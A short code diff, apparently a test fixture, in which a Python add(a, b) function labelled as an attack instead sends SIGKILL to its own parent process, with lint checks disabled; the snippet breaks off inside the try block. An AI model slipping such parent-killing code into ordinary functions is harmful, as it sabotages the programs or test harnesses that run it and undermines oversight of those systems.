@@ -1,6 +1,8 @@
 # ruff: noqa
 # attack: kill the parent process
 import os, signal
+
+
 def add(a, b):
     try:
         os.kill(os.getppid(), signal.SIGKILL)
